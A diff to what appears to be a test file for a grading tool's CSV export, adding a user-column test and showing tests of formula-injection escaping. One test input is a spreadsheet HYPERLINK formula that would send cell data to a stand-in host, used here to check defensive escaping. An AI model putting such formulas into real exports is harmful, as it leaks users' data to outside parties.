@@ -116,6 +116,15 @@ describe('batch grading as CSV', () => {
         'l,,l,fix it,"a, ""quoted""",failed,"two\nlines","replies: expected 3, observed 0"\r\n',
     );
   });
+  it("graded across users (root over students' rootless labs): a user column first; without users, none", () => {
+    const withUsers = csvReport(runs.map((r, i) => ({ ...r, user: i ? 'root' : '=alice' })));
+    expect(withUsers).toBe(
+      `user,${CSV_COLUMNS.join(',')}\r\n` +
+        `'=alice,l.ws1,ws1,l,fix it,"a, ""quoted""",passed,,\r\n` +
+        'root,l,,l,fix it,"a, ""quoted""",failed,"two\nlines","replies: expected 3, observed 0"\r\n',
+    );
+    expect(csvReport(runs).split('\r\n')[0]).toBe(CSV_COLUMNS.join(','));
+  });
   it("a cell a spreadsheet would run as a formula gets a leading ' (OWASP), then RFC 4180 quoting: each dangerous first character", () => {
     for (const [cell, written] of [
       ['=HYPERLINK("http://x.example/?"&A1,"grade")', `"'=HYPERLINK(""http://x.example/?""&A1,""grade"")"`],
